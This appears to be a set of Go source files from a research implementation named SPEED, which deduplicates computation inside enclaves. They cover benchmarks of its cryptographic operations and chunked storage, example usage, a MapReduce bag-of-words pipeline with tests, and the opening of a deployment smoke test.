		storeEnc: storeEnc,
		store:    st,
		runtime:  rt,
	}, nil
}

func (e *env) close() {
	_ = e.runtime.Close()
	e.store.Close()
}

// timeIt returns the mean wall-clock duration of fn over trials runs.
func timeIt(trials int, fn func() error) (time.Duration, error) {
	if trials < 1 {
		trials = 1
	}
	var total time.Duration
	for i := 0; i < trials; i++ {
		start := time.Now()
		if err := fn(); err != nil {
			return 0, err
		}
		total += time.Since(start)
	}
	return total / time.Duration(trials), nil
}

// medianTimeIt returns the median wall-clock duration of fn over trials
// runs, robust against one-off outliers (first-touch page faults, GC).
func medianTimeIt(trials int, fn func() error) (time.Duration, error) {
	if trials < 1 {
		trials = 1
	}
	durations := make([]time.Duration, trials)
	for i := range durations {
		start := time.Now()
		if err := fn(); err != nil {
			return 0, err
		}
		durations[i] = time.Since(start)
	}
	sort.Slice(durations, func(i, j int) bool { return durations[i] < durations[j] })
	return durations[len(durations)/2], nil
}

func randBytes(n int) []byte {
	b := make([]byte, n)
	if _, err := rand.Read(b); err != nil {
		panic(fmt.Sprintf("bench: rand: %v", err))
	}
	return b
}

func ms(d time.Duration) float64 { return float64(d.Nanoseconds()) / 1e6 }
