package speed_test

import (
	"fmt"
	"strings"

	"speed"
)

// Example demonstrates the complete SPEED workflow: create a
// deployment, mark a function deduplicable, and observe the initial
// vs. subsequent computation outcomes.
func Example() {
	sys, err := speed.NewSystemWithConfig(speed.SystemConfig{DisableSGXCosts: true})
	if err != nil {
		fmt.Println("error:", err)
		return
	}
	defer sys.Close()

	app, err := sys.NewApp("example-app", []byte("example app code"))
	if err != nil {
		fmt.Println("error:", err)
		return
	}
	defer app.Close()
	app.RegisterLibrary("strlib", "1.0", []byte("strlib code"))

	// The paper's "2 lines of code per function call":
	upper, err := speed.NewDeduplicable(app,
		speed.FuncDesc{Library: "strlib", Version: "1.0", Signature: "string upper(string)"},
		func(s string) (string, error) { return strings.ToUpper(s), nil },
		speed.WithInputCodec[string, string](speed.StringCodec{}),
		speed.WithOutputCodec[string, string](speed.StringCodec{}),
	)
	if err != nil {
		fmt.Println("error:", err)
		return
	}

	for i := 0; i < 2; i++ {
		out, outcome, err := upper.CallOutcome("hello enclave")
		if err != nil {
			fmt.Println("error:", err)
			return
		}
		fmt.Printf("%s (%v)\n", out, outcome)
	}
	// Output:
	// HELLO ENCLAVE (computed)
	// HELLO ENCLAVE (reused)
}

// ExampleNewDeduplicable_structTypes shows deduplicating a function
// over struct types with the default gob codec.
func ExampleNewDeduplicable_structTypes() {
	sys, _ := speed.NewSystemWithConfig(speed.SystemConfig{DisableSGXCosts: true})
	defer sys.Close()
	app, _ := sys.NewApp("geo", []byte("geo code"))
	defer app.Close()
	app.RegisterLibrary("geolib", "2.0", []byte("geolib code"))

	type Point struct{ X, Y float64 }
	type Box struct{ Min, Max Point }

	area, err := speed.NewDeduplicable(app,
		speed.FuncDesc{Library: "geolib", Version: "2.0", Signature: "float area(Box)"},
		func(b Box) (float64, error) {
			return (b.Max.X - b.Min.X) * (b.Max.Y - b.Min.Y), nil
		})
	if err != nil {
		fmt.Println("error:", err)
		return
	}
	a, _ := area.Call(Box{Min: Point{0, 0}, Max: Point{4, 2.5}})
	fmt.Println(a)
	// Output:
	// 10
}

// ExampleSystem_authorize shows controlled deduplication: only
// explicitly authorized applications may use the store.
func ExampleSystem_authorize() {
	sys, _ := speed.NewSystemWithConfig(speed.SystemConfig{
		DisableSGXCosts: true,
		DenyByDefault:   true,
	})
	defer sys.Close()

	app, _ := sys.NewApp("tenant-a", []byte("tenant a code"))
	defer app.Close()
	sys.Authorize(app.Measurement(), true, true)
	app.RegisterLibrary("lib", "1", []byte("lib code"))

	f, _ := speed.NewDeduplicable(app,
		speed.FuncDesc{Library: "lib", Version: "1", Signature: "f(int)"},
		func(x int) (int, error) { return x + 1, nil })
	v, _ := f.Call(41)
	fmt.Println(v, sys.StoreStats().Entries)
	// Output:
	// 42 1
}
