// Bowpipeline: the Case 4 scenario — bag-of-words over web-page
// corpora on the MapReduce substrate, in an incremental-processing
// pipeline. A nightly job recomputes BoW per corpus shard; shards that
// did not change since the last run are answered from the store.
// Demonstrates the JSON codec for a map-valued result and asynchronous
// PUT (the Section V-B optimization).
package main

import (
	"fmt"
	"os"
	"strings"
	"time"

	"speed"
	"speed/internal/mapreduce"
	"speed/internal/workload"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "bowpipeline:", err)
		os.Exit(1)
	}
}

func run() error {
	sys, err := speed.NewSystem()
	if err != nil {
		return err
	}
	defer sys.Close()

	app, err := sys.NewAppWithConfig("bow-pipeline", []byte("bow pipeline v2"),
		speed.AppConfig{AsyncPut: true})
	if err != nil {
		return err
	}
	defer app.Close()
	app.RegisterLibrary("mapreduce", "2.1", []byte("mapreduce framework code"))

	bow, err := speed.NewDeduplicable(app,
		speed.FuncDesc{Library: "mapreduce", Version: "2.1", Signature: "bow_mapper(corpus shard)"},
		func(shard string) (map[string]int, error) {
			return mapreduce.BagOfWords(strings.Split(shard, "\n"), 4)
		},
		speed.WithInputCodec[string, map[string]int](speed.StringCodec{}),
		speed.WithOutputCodec[string, map[string]int](speed.JSONCodec[map[string]int]{}),
	)
	if err != nil {
		return err
	}

	// Build 8 corpus shards of ~400 pages each.
	gen := workload.New(13)
	shards := make([]string, 8)
	for i := range shards {
		var b strings.Builder
		for p := 0; p < 400; p++ {
			b.WriteString(gen.WebPage(120))
			b.WriteByte('\n')
		}
		shards[i] = b.String()
	}

	runNightly := func(night string, changed map[int]bool) error {
		fmt.Printf("%s run:\n", night)
		start := time.Now()
		totalWords := 0
		for i := range shards {
			if changed[i] {
				// Simulate the shard changing: append a page.
				shards[i] += gen.WebPage(120) + "\n"
			}
			t := time.Now()
			counts, outcome, err := bow.CallOutcome(shards[i])
			if err != nil {
				return err
			}
			distinct := len(counts)
			totalWords += distinct
			fmt.Printf("  shard %d: %5d distinct words  %-8v  %v\n",
				i, distinct, outcome, time.Since(t).Round(100*time.Microsecond))
		}
		fmt.Printf("  total: %v, %d distinct words across shards\n\n",
			time.Since(start).Round(time.Millisecond), totalWords)
		return nil
	}

	// Night 1: everything is fresh. Night 2: only shards 1 and 5
	// changed; the other six are answered from the store.
	if err := runNightly("night 1", nil); err != nil {
		return err
	}
	if err := runNightly("night 2", map[int]bool{1: true, 5: true}); err != nil {
		return err
	}

	st := app.Stats()
	fmt.Printf("pipeline stats: %d calls, %d computed, %d reused\n",
		st.Calls, st.Computed, st.Reused)
	fmt.Printf("store: %+v\n", sys.StoreStats())
	return nil
}
