package bench

import (
	"crypto/sha256"
	"fmt"

	"speed/internal/mle"
)

// CryptoRow is one row of Table I: mean latency of each cryptographic
// operation in DedupRuntime for a given input size.
type CryptoRow struct {
	// InputBytes is the input (and result) size.
	InputBytes int
	// TagGenMS is tag generation t = Hash(func, m).
	TagGenMS float64
	// KeyGenMS is key generation and protection: pick r, derive h,
	// generate k, wrap [k].
	KeyGenMS float64
	// KeyRecMS is key recovery: derive h, unwrap k.
	KeyRecMS float64
	// ResultEncMS and ResultDecMS are AES-128-GCM over the result.
	ResultEncMS, ResultDecMS float64
}

// DefaultTable1Sizes are the paper's input sizes: 1 KB, 10 KB, 100 KB,
// 1 MB.
var DefaultTable1Sizes = []int{1 << 10, 10 << 10, 100 << 10, 1 << 20}

// Table1 measures the five Table I operations at each input size,
// averaging over trials runs. The result size equals the input size
// for the Enc/Dec columns, as in the paper's setup.
func Table1(sizes []int, trials int) ([]CryptoRow, error) {
	id := mle.FuncID(sha256.Sum256([]byte("bench func")))
	rows := make([]CryptoRow, 0, len(sizes))
	for _, size := range sizes {
		input := randBytes(size)
		result := randBytes(size)

		tagT, err := timeIt(trials, func() error {
			_ = mle.ComputeTag(id, input)
			return nil
		})
		if err != nil {
			return nil, err
		}

		var challenge, wrapped, key []byte
		keyGenT, err := timeIt(trials, func() error {
			var kerr error
			challenge, wrapped, key, kerr = mle.KeyGen(id, input, nil)
			return kerr
		})
		if err != nil {
			return nil, err
		}

		keyRecT, err := timeIt(trials, func() error {
			_, kerr := mle.KeyRec(id, input, challenge, wrapped)
			return kerr
		})
		if err != nil {
			return nil, err
		}

		var blob []byte
		encT, err := timeIt(trials, func() error {
			var eerr error
			blob, eerr = mle.EncryptResult(key, result, nil)
			return eerr
		})
		if err != nil {
			return nil, err
		}

		decT, err := timeIt(trials, func() error {
			_, derr := mle.DecryptResult(key, blob)
			return derr
		})
		if err != nil {
			return nil, err
		}

		rows = append(rows, CryptoRow{
			InputBytes:  size,
			TagGenMS:    ms(tagT),
			KeyGenMS:    ms(keyGenT),
			KeyRecMS:    ms(keyRecT),
			ResultEncMS: ms(encT),
			ResultDecMS: ms(decT),
		})
	}
	return rows, nil
}

// RenderTable1 formats rows like the paper's Table I.
func RenderTable1(rows []CryptoRow) string {
	s := "TABLE I: cryptographic operations in DedupRuntime\n"
	s += fmt.Sprintf("%-10s %10s %10s %10s %12s %12s\n",
		"Input(KB)", "TagGen(ms)", "KeyGen(ms)", "KeyRec(ms)", "ResEnc(ms)", "ResDec(ms)")
	for _, r := range rows {
		s += fmt.Sprintf("%-10d %10.3f %10.3f %10.3f %12.3f %12.3f\n",
			r.InputBytes/1024, r.TagGenMS, r.KeyGenMS, r.KeyRecMS,
			r.ResultEncMS, r.ResultDecMS)
	}
	return s
}
