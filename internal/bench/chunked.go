package bench

import (
	"fmt"
	"math/rand"
	"strings"
	"sync/atomic"
	"time"

	"speed/internal/dedup"
	"speed/internal/enclave"
	"speed/internal/mle"
	"speed/internal/store"
	"speed/internal/wire"
)

// Chunked measures what content-defined chunking buys on near-duplicate
// workloads: documents whose results share a controlled fraction of
// their bytes are executed against a whole-result deployment and a
// chunk-threshold deployment, and the experiment reports bytes stored
// in the ResultStore, bytes moved over the client (PUT side for the
// producer, GET side for an independent consumer reassembling from
// manifests), and per-call latency for both.

// ChunkConfig tunes the chunked-dedup benchmark.
type ChunkConfig struct {
	// Docs is how many near-duplicate documents each overlap level
	// executes; default 12 (6 in quick runs).
	Docs int
	// ResultBytes is the per-document result size; default 256 KiB.
	ResultBytes int
	// Overlaps lists the shared-content ratios to sweep; default
	// 0, 0.5, 0.9.
	Overlaps []float64
	// ChunkThreshold is the chunked deployment's Config.ChunkThreshold;
	// default 32 KiB.
	ChunkThreshold int
}

// ChunkRow is one overlap level's measurements. Whole* columns come
// from the ChunkThreshold=0 deployment, Chunk* from the chunking one.
type ChunkRow struct {
	Overlap     float64 `json:"overlap"`
	Docs        int     `json:"docs"`
	ResultBytes int     `json:"result_bytes"`

	WholeStoredBytes int64 `json:"whole_stored_bytes"`
	ChunkStoredBytes int64 `json:"chunk_stored_bytes"`
	WholePutBytes    int64 `json:"whole_put_bytes"`
	ChunkPutBytes    int64 `json:"chunk_put_bytes"`
	WholeGetBytes    int64 `json:"whole_get_bytes"`
	ChunkGetBytes    int64 `json:"chunk_get_bytes"`

	WholePutMS float64 `json:"whole_put_ms"`
	ChunkPutMS float64 `json:"chunk_put_ms"`
	WholeGetMS float64 `json:"whole_get_ms"`
	ChunkGetMS float64 `json:"chunk_get_ms"`

	// StoredSavings / TransferSavings are the chunked deployment's
	// reduction vs whole-result (1 - chunk/whole); transfer sums the
	// PUT and GET sides.
	StoredSavings   float64 `json:"stored_savings"`
	TransferSavings float64 `json:"transfer_savings"`
}

// countingClient wraps a store client and counts the sealed payload
// bytes (plus 32 per probed or requested tag) that cross it — the
// simulated wire transfer volume of the deployment.
type countingClient struct {
	inner interface {
		dedup.BatchClient
		dedup.HasBatcher
	}
	bytes atomic.Int64
}

func sealedBytes(s mle.Sealed) int64 {
	return int64(len(s.Challenge) + len(s.WrappedKey) + len(s.Blob))
}

func (c *countingClient) Get(tag mle.Tag) (mle.Sealed, bool, error) {
	c.bytes.Add(int64(len(tag)))
	sealed, found, err := c.inner.Get(tag)
	if found {
		c.bytes.Add(sealedBytes(sealed))
	}
	return sealed, found, err
}

func (c *countingClient) Put(tag mle.Tag, sealed mle.Sealed, replace bool) error {
	c.bytes.Add(int64(len(tag)) + sealedBytes(sealed))
	return c.inner.Put(tag, sealed, replace)
}

func (c *countingClient) GetBatch(tags []mle.Tag) ([]wire.GetResult, error) {
	c.bytes.Add(int64(len(tags)) * int64(len(mle.Tag{})))
	results, err := c.inner.GetBatch(tags)
	for _, r := range results {
		if r.Found {
			c.bytes.Add(sealedBytes(r.Sealed))
		}
	}
	return results, err
}

func (c *countingClient) PutBatch(items []wire.PutItem) ([]wire.PutResult, error) {
	for _, it := range items {
		c.bytes.Add(int64(len(it.Tag)) + sealedBytes(it.Sealed))
	}
	return c.inner.PutBatch(items)
}

func (c *countingClient) HasBatch(tags []mle.Tag) ([]bool, error) {
	c.bytes.Add(int64(len(tags)) * int64(len(mle.Tag{})))
	return c.inner.HasBatch(tags)
}

func (c *countingClient) Ping() error  { return c.inner.Ping() }
func (c *countingClient) Close() error { return c.inner.Close() }

// chunkWorkload builds the deterministic near-duplicate corpus: every
// document's result is unique-head || shared-middle || unique-tail,
// with the shared middle covering overlap of the result.
func chunkWorkload(docs, resultBytes int, overlap float64, seed int64) [][]byte {
	rng := rand.New(rand.NewSource(seed))
	sharedLen := int(float64(resultBytes) * overlap)
	uniqueLen := resultBytes - sharedLen
	shared := make([]byte, sharedLen)
	rng.Read(shared)
	results := make([][]byte, docs)
	for i := range results {
		head := make([]byte, uniqueLen/2)
		tail := make([]byte, uniqueLen-len(head))
		rng.Read(head)
		rng.Read(tail)
		r := make([]byte, 0, resultBytes)
		r = append(r, head...)
		r = append(r, shared...)
		r = append(r, tail...)
		results[i] = r
	}
	return results
}

// chunkDeployment runs one producer+consumer pass and reports stored
// bytes, producer-side transfer, consumer-side transfer and per-call
// latencies.
func chunkDeployment(threshold int, results [][]byte) (stored, putBytes, getBytes int64, putMS, getMS float64, err error) {
	platform := enclave.NewPlatform(enclave.Config{})
	storeEnc, err := platform.Create("bench-store", []byte("bench store code"))
	if err != nil {
		return 0, 0, 0, 0, 0, err
	}
	st, err := store.New(store.Config{Enclave: storeEnc, Telemetry: registry})
	if err != nil {
		return 0, 0, 0, 0, 0, err
	}
	defer st.Close()

	newRuntime := func(name string) (*dedup.Runtime, *countingClient, error) {
		appEnc, cerr := platform.Create(name, []byte("bench app code"))
		if cerr != nil {
			return nil, nil, cerr
		}
		cc := &countingClient{inner: dedup.NewLocalClient(st, appEnc.Measurement())}
		rt, rerr := dedup.NewRuntime(dedup.Config{
			Enclave:        appEnc,
			Client:         cc,
			ChunkThreshold: threshold,
			Logf:           func(string, ...any) {},
			Telemetry:      registry,
		})
		if rerr != nil {
			return nil, nil, rerr
		}
		rt.Registry().RegisterLibrary("chunkbench", "1.0", []byte("chunk bench code"))
		return rt, cc, nil
	}
	desc := dedup.FuncDesc{Library: "chunkbench", Version: "1.0", Signature: "bytes render(doc)"}

	producer, producerCC, err := newRuntime("bench-app")
	if err != nil {
		return 0, 0, 0, 0, 0, err
	}
	defer producer.Close()
	id, err := producer.Resolve(desc)
	if err != nil {
		return 0, 0, 0, 0, 0, err
	}
	input := func(i int) []byte { return []byte(fmt.Sprintf("chunk-bench-doc-%04d", i)) }

	var putTotal time.Duration
	for i, want := range results {
		want := want
		start := time.Now()
		_, _, xerr := producer.Execute(id, input(i), func([]byte) ([]byte, error) {
			return append([]byte(nil), want...), nil
		})
		if xerr != nil {
			return 0, 0, 0, 0, 0, fmt.Errorf("producer execute %d: %w", i, xerr)
		}
		putTotal += time.Since(start)
	}
	stored = st.Stats().BlobBytes
	putBytes = producerCC.bytes.Load()
	putMS = ms(putTotal) / float64(len(results))

	consumer, consumerCC, err := newRuntime("bench-consumer")
	if err != nil {
		return 0, 0, 0, 0, 0, err
	}
	defer consumer.Close()
	cid, err := consumer.Resolve(desc)
	if err != nil {
		return 0, 0, 0, 0, 0, err
	}
	var getTotal time.Duration
	for i := range results {
		start := time.Now()
		_, outcome, xerr := consumer.Execute(cid, input(i), func([]byte) ([]byte, error) {
			return nil, fmt.Errorf("consumer recomputed document %d", i)
		})
		if xerr != nil {
			return 0, 0, 0, 0, 0, fmt.Errorf("consumer execute %d: %w", i, xerr)
		}
		if outcome != dedup.OutcomeReused {
			return 0, 0, 0, 0, 0, fmt.Errorf("consumer outcome for %d = %v, want reused", i, outcome)
		}
		getTotal += time.Since(start)
	}
	getBytes = consumerCC.bytes.Load()
	getMS = ms(getTotal) / float64(len(results))
	return stored, putBytes, getBytes, putMS, getMS, nil
}

// Chunked runs the sweep. At the 50% overlap level the chunked
// deployment must cut both stored and transferred bytes by at least
// 30% vs whole-result dedup — the experiment fails otherwise.
func Chunked(cfg ChunkConfig) ([]ChunkRow, error) {
	if cfg.Docs <= 0 {
		cfg.Docs = 12
	}
	if cfg.ResultBytes <= 0 {
		cfg.ResultBytes = 256 << 10
	}
	if len(cfg.Overlaps) == 0 {
		cfg.Overlaps = []float64{0, 0.5, 0.9}
	}
	if cfg.ChunkThreshold <= 0 {
		cfg.ChunkThreshold = 32 << 10
	}

	rows := make([]ChunkRow, 0, len(cfg.Overlaps))
	for _, overlap := range cfg.Overlaps {
		results := chunkWorkload(cfg.Docs, cfg.ResultBytes, overlap, int64(1e9*overlap)+7)
		row := ChunkRow{Overlap: overlap, Docs: cfg.Docs, ResultBytes: cfg.ResultBytes}
		var err error
		row.WholeStoredBytes, row.WholePutBytes, row.WholeGetBytes, row.WholePutMS, row.WholeGetMS, err =
			chunkDeployment(0, results)
		if err != nil {
			return rows, fmt.Errorf("whole-result deployment at overlap %.0f%%: %w", 100*overlap, err)
		}
		row.ChunkStoredBytes, row.ChunkPutBytes, row.ChunkGetBytes, row.ChunkPutMS, row.ChunkGetMS, err =
			chunkDeployment(cfg.ChunkThreshold, results)
		if err != nil {
			return rows, fmt.Errorf("chunked deployment at overlap %.0f%%: %w", 100*overlap, err)
		}
		row.StoredSavings = 1 - float64(row.ChunkStoredBytes)/float64(row.WholeStoredBytes)
		wholeTransfer := row.WholePutBytes + row.WholeGetBytes
		chunkTransfer := row.ChunkPutBytes + row.ChunkGetBytes
		row.TransferSavings = 1 - float64(chunkTransfer)/float64(wholeTransfer)
		rows = append(rows, row)

		if overlap == 0.5 {
			if row.StoredSavings < 0.30 {
				return rows, fmt.Errorf("chunked dedup saved only %.1f%% stored bytes at 50%% overlap (want >= 30%%)",
					100*row.StoredSavings)
			}
			if row.TransferSavings < 0.30 {
				return rows, fmt.Errorf("chunked dedup saved only %.1f%% transferred bytes at 50%% overlap (want >= 30%%)",
					100*row.TransferSavings)
			}
		}
	}
	return rows, nil
}

// RenderChunked formats the sweep as a table.
func RenderChunked(rows []ChunkRow) string {
	var b strings.Builder
	if len(rows) > 0 {
		fmt.Fprintf(&b, "Chunked dedup: %d near-duplicate docs of %d KiB per overlap level, whole-result vs FastCDC chunking\n",
			rows[0].Docs, rows[0].ResultBytes>>10)
	}
	fmt.Fprintf(&b, "  %-8s %12s %12s %12s %12s %8s %8s %9s %9s\n",
		"overlap", "stored(W)", "stored(C)", "xfer(W)", "xfer(C)", "saved$", "savedX", "put C ms", "get C ms")
	for _, r := range rows {
		fmt.Fprintf(&b, "  %6.0f%% %11dK %11dK %11dK %11dK %7.1f%% %7.1f%% %9.2f %9.2f\n",
			100*r.Overlap,
			r.WholeStoredBytes>>10, r.ChunkStoredBytes>>10,
			(r.WholePutBytes+r.WholeGetBytes)>>10, (r.ChunkPutBytes+r.ChunkGetBytes)>>10,
			100*r.StoredSavings, 100*r.TransferSavings,
			r.ChunkPutMS, r.ChunkGetMS)
	}
	b.WriteString("  saved$ = stored-byte reduction, savedX = transferred-byte (PUT+GET) reduction vs whole-result\n")
	return b.String()
}
