package mapreduce

import (
	"math"
	"reflect"
	"testing"
	"testing/quick"
)

var tfidfDocs = []string{
	"the cat sat on the mat",
	"the dog sat on the log",
	"cats and dogs",
}

func TestInvertedIndex(t *testing.T) {
	index, err := InvertedIndex(tfidfDocs, 2)
	if err != nil {
		t.Fatalf("InvertedIndex: %v", err)
	}
	// "the" appears twice in docs 0 and 1, never in doc 2.
	want := []Posting{{Doc: 0, Count: 2}, {Doc: 1, Count: 2}}
	if !reflect.DeepEqual(index["the"], want) {
		t.Errorf(`index["the"] = %v, want %v`, index["the"], want)
	}
	// "cats" only in doc 2.
	if !reflect.DeepEqual(index["cats"], []Posting{{Doc: 2, Count: 1}}) {
		t.Errorf(`index["cats"] = %v`, index["cats"])
	}
	if _, ok := index["zebra"]; ok {
		t.Error("index contains absent term")
	}
}

func TestInvertedIndexDeterministicAcrossWorkers(t *testing.T) {
	a, err := InvertedIndex(tfidfDocs, 1)
	if err != nil {
		t.Fatalf("InvertedIndex: %v", err)
	}
	b, err := InvertedIndex(tfidfDocs, 8)
	if err != nil {
		t.Fatalf("InvertedIndex: %v", err)
	}
	if !reflect.DeepEqual(a, b) {
		t.Error("index differs across worker counts")
	}
}

func TestTFIDF(t *testing.T) {
	scores, err := TFIDF(tfidfDocs, 2)
	if err != nil {
		t.Fatalf("TFIDF: %v", err)
	}
	// "sat" is in 2 of 3 docs with tf=1: score = ln(3/2).
	wantSat := math.Log(3.0 / 2.0)
	got := scores["sat"]
	if len(got) != 2 || math.Abs(got[0].Score-wantSat) > 1e-12 {
		t.Errorf(`scores["sat"] = %v, want score %v`, got, wantSat)
	}
	// "the" is in 2 of 3 docs with tf=2: score = 2*ln(3/2).
	gotThe := scores["the"]
	if len(gotThe) != 2 || math.Abs(gotThe[0].Score-2*wantSat) > 1e-12 {
		t.Errorf(`scores["the"] = %v`, gotThe)
	}
	// A term unique to one doc scores tf*ln(3).
	gotMat := scores["mat"]
	if len(gotMat) != 1 || math.Abs(gotMat[0].Score-math.Log(3)) > 1e-12 {
		t.Errorf(`scores["mat"] = %v`, gotMat)
	}
}

func TestTopTerms(t *testing.T) {
	scores, err := TFIDF(tfidfDocs, 2)
	if err != nil {
		t.Fatalf("TFIDF: %v", err)
	}
	top := TopTerms(scores, 0, 3)
	if len(top) != 3 {
		t.Fatalf("TopTerms = %v", top)
	}
	// Doc 0's distinctive terms ("cat", "mat" with ln3 > "the" with
	// 2*ln1.5) must outrank shared ones; "the" has score 2*ln(3/2) ≈
	// 0.81 vs ln(3) ≈ 1.10 for unique terms.
	if top[0] != "cat" && top[0] != "mat" {
		t.Errorf("top term = %q, want a doc-unique term", top[0])
	}
	// k larger than available terms clamps.
	all := TopTerms(scores, 2, 100)
	if len(all) != 3 { // "cats", "and", "dogs"
		t.Errorf("TopTerms(doc 2) = %v", all)
	}
	// Deterministic ordering.
	if !reflect.DeepEqual(TopTerms(scores, 0, 5), TopTerms(scores, 0, 5)) {
		t.Error("TopTerms not deterministic")
	}
}

func TestIndexCodecRoundTrip(t *testing.T) {
	index, err := InvertedIndex(tfidfDocs, 2)
	if err != nil {
		t.Fatalf("InvertedIndex: %v", err)
	}
	got, err := DecodeIndex(EncodeIndex(index))
	if err != nil {
		t.Fatalf("DecodeIndex: %v", err)
	}
	if !reflect.DeepEqual(got, index) {
		t.Error("index codec round trip mismatch")
	}
	// Empty index.
	got, err = DecodeIndex(EncodeIndex(map[string][]Posting{}))
	if err != nil || len(got) != 0 {
		t.Errorf("empty round trip = (%v, %v)", got, err)
	}
}

func TestIndexCodecCanonical(t *testing.T) {
	a := EncodeIndex(map[string][]Posting{"x": {{1, 2}}, "y": {{0, 1}}})
	b := EncodeIndex(map[string][]Posting{"y": {{0, 1}}, "x": {{1, 2}}})
	if !reflect.DeepEqual(a, b) {
		t.Error("EncodeIndex not canonical")
	}
}

func TestIndexCodecRejectsMalformed(t *testing.T) {
	enc := EncodeIndex(map[string][]Posting{"term": {{Doc: 1, Count: 2}}})
	for i, bad := range [][]byte{nil, {1}, enc[:len(enc)-3], append(append([]byte{}, enc...), 9)} {
		if _, err := DecodeIndex(bad); err == nil {
			t.Errorf("case %d: DecodeIndex accepted malformed input", i)
		}
	}
}

// Property: the index codec round-trips arbitrary small indexes.
func TestQuickIndexCodec(t *testing.T) {
	prop := func(terms map[string]uint8) bool {
		index := make(map[string][]Posting, len(terms))
		for term, n := range terms {
			k := int(n%4) + 1
			postings := make([]Posting, k)
			for i := range postings {
				postings[i] = Posting{Doc: i, Count: int(n) + i}
			}
			index[term] = postings
		}
		got, err := DecodeIndex(EncodeIndex(index))
		return err == nil && (len(index) == 0 && len(got) == 0 || reflect.DeepEqual(got, index))
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 60}); err != nil {
		t.Error(err)
	}
}

// Property: document frequency in the index equals the naive count.
func TestQuickInvertedIndexAgreesWithNaive(t *testing.T) {
	prop := func(docs []string) bool {
		index, err := InvertedIndex(docs, 3)
		if err != nil {
			return false
		}
		for term, postings := range index {
			df := 0
			for _, d := range docs {
				for _, w := range Tokenize(d) {
					if w == term {
						df++
						break
					}
				}
			}
			if df != len(postings) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 50}); err != nil {
		t.Error(err)
	}
}
