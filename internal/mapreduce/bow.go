package mapreduce

import (
	"encoding/binary"
	"errors"
	"sort"
	"strings"
)

// The bag-of-words computation of Case 4: tokenize documents and count
// word occurrences with MapReduce, exactly the bow_mapper customization
// of the paper's Mapper function.

// Tokenize splits text into lowercase words: maximal runs of ASCII
// letters and digits.
func Tokenize(text string) []string {
	var words []string
	start := -1
	flush := func(end int) {
		if start >= 0 {
			words = append(words, strings.ToLower(text[start:end]))
			start = -1
		}
	}
	for i := 0; i < len(text); i++ {
		c := text[i]
		isWord := c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9'
		if isWord {
			if start < 0 {
				start = i
			}
		} else {
			flush(i)
		}
	}
	flush(len(text))
	return words
}

// BagOfWords counts word occurrences across documents using the
// MapReduce engine with a sum combiner.
func BagOfWords(docs []string, workers int) (map[string]int, error) {
	return Run(
		docs,
		func(doc string, emit func(string, int)) error {
			for _, w := range Tokenize(doc) {
				emit(w, 1)
			}
			return nil
		},
		func(word string, counts []int) (int, error) {
			total := 0
			for _, c := range counts {
				total += c
			}
			return total, nil
		},
		Config[int]{Workers: workers, Combine: func(a, b int) int { return a + b }},
	)
}

// ErrMalformedCounts is returned when decoding invalid count bytes.
var ErrMalformedCounts = errors.New("mapreduce: malformed counts encoding")

// EncodeCounts serialises a word-count map deterministically (words
// sorted ascending), the deduplicable result representation.
func EncodeCounts(counts map[string]int) []byte {
	words := make([]string, 0, len(counts))
	for w := range counts {
		words = append(words, w)
	}
	sort.Strings(words)
	buf := binary.BigEndian.AppendUint32(nil, uint32(len(words)))
	for _, w := range words {
		buf = binary.BigEndian.AppendUint32(buf, uint32(len(w)))
		buf = append(buf, w...)
		buf = binary.BigEndian.AppendUint64(buf, uint64(counts[w]))
	}
	return buf
}

// DecodeCounts parses the form produced by EncodeCounts.
func DecodeCounts(b []byte) (map[string]int, error) {
	if len(b) < 4 {
		return nil, ErrMalformedCounts
	}
	n := int(binary.BigEndian.Uint32(b))
	b = b[4:]
	out := make(map[string]int, n)
	for i := 0; i < n; i++ {
		if len(b) < 4 {
			return nil, ErrMalformedCounts
		}
		wl := int(binary.BigEndian.Uint32(b))
		b = b[4:]
		if wl < 0 || len(b) < wl+8 {
			return nil, ErrMalformedCounts
		}
		word := string(b[:wl])
		b = b[wl:]
		out[word] = int(binary.BigEndian.Uint64(b))
		b = b[8:]
	}
	if len(b) != 0 {
		return nil, ErrMalformedCounts
	}
	return out, nil
}
