package bench

import (
	"fmt"
	"time"

	"speed/internal/dedup"
	"speed/internal/enclave"
	"speed/internal/telemetry"
)

// Smoke drives traced Execute calls against an externally-running
// resultstore (cmd/resultstore), for end-to-end deployment checks: CI
// starts a store with -metrics, runs this, then asserts the trace IDs
// printed here assemble on the store's /debug/trace?id= endpoint.
//
// The client platform is created from the same machine seed as the
// store so its attestation chains to the same platform key —
// the same-machine deployment of Section IV-B — and every call is
// sampled (TraceSampleRate 1) so each one propagates a trace context.

// SmokeConfig tunes the deployment smoke run.
type SmokeConfig struct {
	// StoreAddr is the resultstore's wire listen address.
	StoreAddr string
	// StoreMeasurement pins the store enclave identity (printed by
	// resultstore at startup).
	StoreMeasurement enclave.Measurement
	// MachineSeed must match the store's -machine-seed so client
	// attestation verifies as same-platform.
	MachineSeed string
	// Calls is the number of Execute calls to issue over 4 distinct
	// inputs (duplicates exercise the dedup hit path). Default 24.
	Calls int
}

// SmokeResult reports what the run observed.
type SmokeResult struct {
	// TraceIDs are the distinct distributed trace IDs the client
	// recorded, oldest first.
	TraceIDs []string
	// Outcome mix across the calls.
	Reused, Computed, Coalesced int64
}

// Smoke connects, issues the calls and collects the sampled trace IDs.
func Smoke(cfg SmokeConfig) (*SmokeResult, error) {
	if cfg.StoreAddr == "" {
		return nil, fmt.Errorf("smoke: store address required")
	}
	if cfg.Calls <= 0 {
		cfg.Calls = 24
	}
	platform := enclave.NewPlatform(enclave.Config{
		SimulateCosts: false,
		PlatformSeed:  []byte(cfg.MachineSeed),
	})
	appEnc, err := platform.Create("speed-smoke-client", []byte("speed smoke client v1"))
	if err != nil {
		return nil, err
	}
	defer appEnc.Destroy()

	reg := telemetry.NewRegistry()
	reg.SetNode("smoke-client")
	client, err := dedup.DialConfig(cfg.StoreAddr, appEnc, cfg.StoreMeasurement,
		dedup.RemoteConfig{Telemetry: reg, RequestTimeout: 5 * time.Second})
	if err != nil {
		return nil, fmt.Errorf("smoke: connect store: %w", err)
	}
	rt, err := dedup.NewRuntime(dedup.Config{
		Enclave:         appEnc,
		Client:          client,
		Telemetry:       reg,
		TraceSampleRate: 1,
	})
	if err != nil {
		return nil, err
	}
	defer rt.Close()
	rt.Registry().RegisterLibrary("smoke", "1.0", []byte("smoke lib v1"))
